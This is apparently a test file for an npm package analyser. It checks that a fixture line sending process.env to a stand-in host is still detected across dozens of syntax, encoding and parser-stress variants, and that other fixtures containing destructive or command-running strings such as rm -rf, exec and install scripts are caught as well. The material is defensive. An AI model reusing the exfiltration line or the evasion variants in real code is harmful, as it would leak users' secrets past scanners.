import { describe, expect, test } from '@jest/globals';
import { createHash } from 'node:crypto';
import { compileFunction, SourceTextModule } from 'node:vm';
import type { JsonObject } from '../../../src/core/json.js';
import type { PackageManifest } from '../../../src/packages/archive.types.js';
import { profilePackage, type ProfileResult } from '../../../src/packages/profile/profile.js';

const payload = 'fetch("https://collect.example.invalid/", { method: "POST", body: JSON.stringify(process.env) });';
type Files = { readonly [path: string]: string | Uint8Array };

function profileOf(files: Files, raw: JsonObject = {}, steps?: number): ProfileResult {
  const manifest: PackageManifest = { name: 'left', version: '1.0.0', scripts: (raw['scripts'] ?? {}) as { [name: string]: string }, bin: {}, raw: { name: 'left', version: '1.0.0', ...raw } };
  const all: Files = { 'package.json': JSON.stringify(manifest.raw), ...files };
  return profilePackage({
    manifest,
    files: Object.entries(all).map(([path, text]) => {
      const bytes = typeof text === 'string' ? new TextEncoder().encode(text) : text;
      return { path, size: bytes.length, mode: 0o644, sha256: createHash('sha256').update(bytes).digest('hex'), bytes };
    }),
  }, steps);
}

/** Whether the environment is seen to leave, or at least a request to be made, by itself. */
const seen = ({ value }: ProfileResult): boolean => value.flows.some((one) => one.source === 'environment' && one.trigger === 'load') || value.capabilities.some((one) => one.kind === 'network-access' && one.trigger === 'load');
/** Whether the file is named as one that was not understood, with when it runs. */
const unread = ({ value }: ProfileResult, file: string): boolean => value.unread.some((one) => one.path === file && (one.trigger === 'load' || one.trigger === 'undecided'));

/** Whether this Node takes the text, as CommonJS loads it and as a module; nothing of it is run. */
const asScript = (text: string): boolean => {
  try { compileFunction(text.replace(/^\ufeff/, '').replace(/^#![^\n\r\u2028\u2029]*/, ''), ['exports', 'require', 'module', '__filename', '__dirname']); return true; } catch { return false; }
};
const asModule = (text: string): boolean => {
  try { return new SourceTextModule(text.replace(/^\ufeff/, '')).status === 'unlinked'; } catch { return false; }
};

const syntax: readonly (readonly [string, string])[] = [
  ['hashbang', `#!/usr/bin/env node\n${payload}`], ['byte order mark', `\ufeff${payload}`], ['byte order mark and hashbang', `\ufeff#!/usr/bin/env node\n${payload}`],
  ['HTML comments', `<!-- a\n${payload}\n--> b\nvar x = 1 <!-- c\n`], ['an HTML comment that hides the rest', `<!-- ${'x'.repeat(2_000)}\n${payload}`],
  ['old octals', `var a = 010, b = "\\01", c = 09.5; ${payload}`], ['with', `with ({}) { ${payload} }`], ['delete of a name', `var a; delete a; ${payload}`], ['two parameters of one name', `function f(a, a) {} ${payload}`],
  ['names that are words elsewhere', `var async = 1, of = 2, let = 3, yield = 4, await = 5, static = 6, get = 7, implements = 8; ${payload}`], ['eval and arguments as names', `var eval = 1, arguments = 2; ${payload}`],
  ['return at the top', `${payload}\nreturn;\n]`.replace(']', '')], ['new.target at the top', `new.target; ${payload}`], ['a function in an if', `if (1) function f() {} ${payload}`], ['a function with a label', `a: function f() {} ${payload}`],
  ['for in with a value', `for (var a = 1 in {}) {} ${payload}`], ['a call as a target', `try { f() = 1 } catch {} ${payload}`], ['line separators in strings', `var a = "\u2028\u2029"; ${payload}`], ['line separators as lines', `// a\u2028${payload}`],
  ['carriage returns', `// a\r${payload}`], ['a comment that hides a line end', `/* \u2028 */ ${payload}`], ['escapes in names', payload.replace('fetch', 'f\\u0065tch').replace('process', 'proc\\u{65}ss')], ['names of other planes', `var \u{20000} = 1, \u{1d7d8}a; ${payload}`.replace(', \u{1d7d8}a', '')],
  ['NUL in a string', `var a = "\0"; ${payload}`], ['NUL in a comment', `// \0\n${payload}`], ['NUL in the code', `\0${payload}`], ['controls', `\u000b\u000c\u00a0\u1680\u2003${payload}`], ['a lone surrogate', `var a = "\ud800"; ${payload}`],
  ['flags inside a pattern', `/(?i:a)b/; ${payload}`], ['flags taken off inside a pattern', `/(?-i:a)(?s-m:.)/; ${payload}`], ['sets of a pattern', `/[\\p{L}--[a-z]&&[\\w]]/v; ${payload}`], ['strings in a set', `/[\\q{abc|d}]/v; ${payload}`], ['one group name twice', `/(?<a>x)|(?<a>y)/; ${payload}`],
  ['a look behind', `/(?<=\\$)\\d+(?<!x)/d; ${payload}`], ['a pattern that only old browsers take', `/\\_\\-{1}]{/; ${payload}`], ['a slash in a class', `/[/]/; ${payload}`], ['division or pattern', `var a = 1, g = 2; a = a / 2 /g; ${payload} /x/g`], ['a pattern that no engine takes', `/(/; ${payload}`],
  ['decorators', `@a class A { @b() c() {} @d accessor e = 1 } ${payload}`], ['JSX', `var a = <b c={1}>{...d}</b>; ${payload}`], ['types', `var a: number = 1 as any; ${payload}`], ['a pipe', `1 |> f(%); ${payload}`], ['do expressions', `var a = do { 1 }; ${payload}`], ['records', `var a = #{ b: 1 }; ${payload}`],
  ['await at the top', `await 0; ${payload}`], ['for await at the top', `for await (const a of []) {} ${payload}`], ['import attributes', `import a from "./a.json" with { type: "json" }; ${payload}`], ['import assertions', `import a from "./a.json" assert { type: "json" }; ${payload}`],
  ['dynamic import with attributes', `import("./a.json", { with: { type: "json" } }); ${payload}`], ['import defer', `import defer * as a from "./a.js"; ${payload}`], ['import source', `import source a from "./a.wasm"; ${payload}`], ['names that are strings', `var a; export { a as "b c" }; ${payload}`], ['export star as a string', `export * as "x-y" from "./a.js"; ${payload}`],
  ['import.meta', `import.meta.url; ${payload}`], ['using', `{ using a = null; } ${payload}`], ['await using', `{ await using a = null; } ${payload}`], ['using at the top', `using a = null; ${payload}`],
  ['private names', `class A { #a = 1; static #b() {} has(o) { return #a in o } static { this.#b(); } } ${payload}`], ['fields and accessors', `class A { static async *[Symbol.iterator]() {} get; set; static; async; 'b' = 1; 1 = 2 } ${payload}`], ['logical assignment', `var a; a ??= 1; a ||= 2; a &&= 3; ${payload}`],
  ['numbers', `1_000n ** 2n; 0b1_0; 0o7_7; .5e-1_0; ${payload}`], ['optional chains', `a?.b?.[c]?.(d)\`\`; ${payload}`.replace('``', '')], ['catch without a name', `try {} catch {} ${payload}`], ['generators and spread', `function* g(...[a, { b = 1 } = {}]) { yield* a } ${payload}`], ['regular expressions after braces', `{} /a/g; ${payload}`],
  ['automatic semicolons', `var a = 1\n++a\nvar b = a\n(function () {})\n${payload}`], ['a template in a template', `\`\${\`\${1}\`}\`; ${payload}`], ['a bad escape in a tagged template', `String.raw\`\\u{zzz} \\xg\`; ${payload}`],
  ['an unfinished comment', `${payload} /* `], ['an unfinished string', `${payload} "`], ['an unfinished template', `${payload} \``], ['a bracket too many', `${payload} }`], ['an ellipsis', `${payload} ...`],
];

describe('what Node takes is read, or said to be unread', () => {
  const files = [['index.js', undefined], ['index.cjs', undefined], ['index.mjs', 'module']] as const;
  test.each(syntax)('%s', (_what, text) => {
    for (const [file, type] of files) {
      const profile = profileOf({ [file]: text, 'a.js': '', 'a.json': '1' }, { main: file, ...(type ? { type } : {}) });
      const runs = file === 'index.mjs' ? asModule(text) : asScript(text) || (file === 'index.js' && asModule(text));
      // What this Node refuses another one, or a bundler, may take: it is read or said as well.
      expect([file, runs, seen(profile) || unread(profile, file)]).toEqual([file, runs, true]);
    }
  });
  test('most of it is read', () => {
    const accepted = syntax.filter(([, text]) => asScript(text) || asModule(text));
    const left = accepted.filter(([, text]) => !seen(profileOf({ 'index.js': text, 'a.js': '' }))).map(([what]) => what);
    expect([accepted.length > 50, left]).toEqual([true, []]);
  });
});

describe('bytes that are no text', () => {
  const bytes = (...parts: readonly (string | readonly number[])[]): Uint8Array => Buffer.concat(parts.map((part) => Buffer.from(part as string)));
  test.each<readonly [string, Uint8Array]>([
    ['a byte that is no UTF-8, in a comment', bytes('// ', [0xff, 0xfe, 0xc0, 0x80], '\n', payload)], ['in a string', bytes('var a = "', [0xe9, 0x80], '"; ', payload)], ['a long form of a slash', bytes('//', [0xc0, 0xaf], '\n', payload)], ['a surrogate in UTF-8', bytes('var a = "', [0xed, 0xa0, 0x80], '"; ', payload)],
    ['a character that is cut', bytes(payload, '//', [0xf0, 0x9f])], ['Latin-1', bytes('var caf', [0xe9], ' = 1; ', payload)], ['UTF-16, little end first', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(payload, 'utf16le')])],
    ['UTF-16, big end first', Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(payload, 'utf16le').swap16()])], ['UTF-16 without a mark', Buffer.from(payload, 'utf16le')], ['UTF-32', Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), Buffer.from(Array.from(payload, (char) => [char.charCodeAt(0), 0, 0, 0]).flat())])],
    ['UTF-7', bytes('+/v8-', payload)], ['noise', createHash('sha512').update('x').digest()], ['noise, then code', bytes([0, 1, 2, 255], '\n', payload)],
  ])('%s: read, or said to be unread', (_what, text) => {
    const profile = profileOf({ 'index.js': text });
    expect(seen(profile) || unread(profile, 'index.js')).toBe(true);
  });
});

describe('code that is made to break a reader, in a whole package', () => {
  // Larger ones of each are in test/javascript/hostile.test.ts, without the rest of a package around them.
  test.each<readonly [string, Files, JsonObject?]>([
    ['30,000 names', { 'index.js': `let ${Array.from({ length: 30_000 }, (_, at) => `a${at}`).join(',')}; ${payload}` }], ['20,000 functions', { 'index.js': `${Array.from({ length: 20_000 }, (_, at) => `function f${at}(){}`).join('')} ${payload}` }],
    ['50,000 brackets', { 'index.js': `${payload} ${'['.repeat(50_000)}${']'.repeat(50_000)}` }], ['members of members', { 'index.js': `${payload} a${'.b.c'.repeat(2_000)}` }], ['assignments', { 'index.js': `${payload} var x = ${'a = b = c = '.repeat(5_000)}1` }],
    ['5,000 terms', { 'index.js': `${payload} var x = ${Array(5_000).fill('"a"').join(' + ')}` }], ['5,000 terms of names', { 'index.js': `var b = "x"; ${payload} var x = ${Array(5_000).fill('b').join(' + ')}` }], ['a template of 2 MB', { 'index.js': `${payload} var x = \`${'a${b}'.repeat(10_000)}${'y'.repeat(1_500_000)}\`` }],
    ['a line of 1 MB', { 'index.js': `${payload} var x = "${'y'.repeat(1_000_000)}"` }], ['300,000 lines', { 'index.js': `${'\n'.repeat(300_000)}${payload}` }], ['10,000 cases', { 'index.js': `switch (x) { ${Array.from({ length: 10_000 }, (_, at) => `case ${at}: break;`).join('')} } ${payload}` }],
    ['20,000 texts in a list', { 'index.js': `var t = [${Array.from({ length: 20_000 }, (_, at) => `"${at}"`).join(',')}]; ${payload}` }], ['3,000 nested functions', { 'index.js': `${payload} ${'(function(){'.repeat(3_000)}${'})()'.repeat(3_000)}` }], ['10,000 arrows', { 'index.js': `${payload} var f = ${'a => '.repeat(10_000)}a` }],
    ['a ring of files', { 'index.js': `require("./a"); ${payload}`, 'a.js': 'require("./b")', 'b.js': 'require("./index")' }], ['500 files that load each other', { ...Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`f${at}.js`, `require("./f${at + 1}"); require("./f${(at * 7) % 500}");`])), 'index.js': `require("./f0"); ${payload}` }],
    ['a loader of all files', { ...Object.fromEntries(Array.from({ length: 100 }, (_, at) => [`d/f${at}.js`, `module.exports = require("./" + x)`])), 'index.js': `${payload} require("./d/" + x)` }], ['exports of 20,000 conditions', { 'index.js': payload }, { exports: { '.': Object.fromEntries(Array.from({ length: 20_000 }, (_, at) => [`c${at}`, './index.js'])) } }],
    ['a manifest of prototype names', { 'index.js': payload }, JSON.parse('{"__proto__":{"main":"x"},"constructor":1,"scripts":{"__proto__":"node x","constructor":"y"},"bin":{"__proto__":"./index.js"},"dependencies":{"__proto__":"1"}}') as JsonObject],
    ['lists with holes', { 'index.js': `${payload} (() => Array(9))(); (() => { const x = []; x[7] = "abcd"; return x })(); (() => Array(9))().join("abcd"); (function (s) { return Array(20).map((x) => x) })("abcd")` }],
    ['modules of prototype names', { 'index.js': `require("./__proto__"); require("./constructor"); ${payload}`, '__proto__.js': '1', 'constructor.js': '2' }],
  ])('%s', (_what, files, raw = {}) => {
    const profile = profileOf(files, raw);
    expect(seen(profile) || unread(profile, 'index.js')).toBe(true);
  });
  test('a spent budget names what was left, and is partial', () => {
    const { coverage, value } = profileOf({ 'index.js': `${'f();'.repeat(5_000)} require("./b")`, 'b.js': payload }, {}, 2_000);
    expect(coverage).toMatchObject({ kind: 'partial', code: 'ANALYSER_STEPS' });
    expect(value.unread.some((one) => one.code === 'ANALYSER_STEPS')).toBe(true);
  });
});

/** What the patterns of our own look for, over and over and never to its end: a pattern that goes back would take hours. */
describe('texts that are made to break our patterns', () => {
  test.each([
    '/', '-', 'a@', 'o', 'O', '#', 'I', 'l1', '-git ', '+date ', 'copy(', 'open(', '/*', ' ', '\t', '\n', 'eyJ-', '\\"', '%', '${', '0x1,', 'a.', 'http://', '<!--', 'QUJD', '../', '(', '["a",', '\'', '`', '\\u0061', '\u200b', '\ufe01', '\u202e', 'rm -rf ', '||', 'import ', 'curl http://a ', '$(', '&& ', '_0x',
  ])('%j', (unit) => {
    const text = unit.repeat(Math.ceil(20_000 / unit.length));
    const quoted = JSON.stringify(text);
    const profile = profileOf({
      'index.js': `${payload} require("fs").rmSync(${quoted}, { recursive: true }); require("child_process").exec(${quoted}); fetch(${quoted}); eval(${quoted}); /* ${text.replaceAll('*/', '')} */`,
      'raw.js': text, 'setup.sh': `${text}\nrm -rf ${text.replace(/\s/g, '_')}\n`, 'setup.py': `x = 1\n${text}\n`, 'setup.ps1': text, 'setup.bat': text, 'AGENTS.md': text, 'binding.gyp': `{"targets":[{"target_name":"a","sources":[${JSON.stringify(`<!(${text})`)}]}]}`,
    }, { scripts: { preinstall: `sh setup.sh && ${text.slice(0, 5_000)}`, postinstall: 'python setup.py; powershell setup.ps1; setup.bat' } });
    expect(seen(profile) || unread(profile, 'index.js')).toBe(true);
  });
});
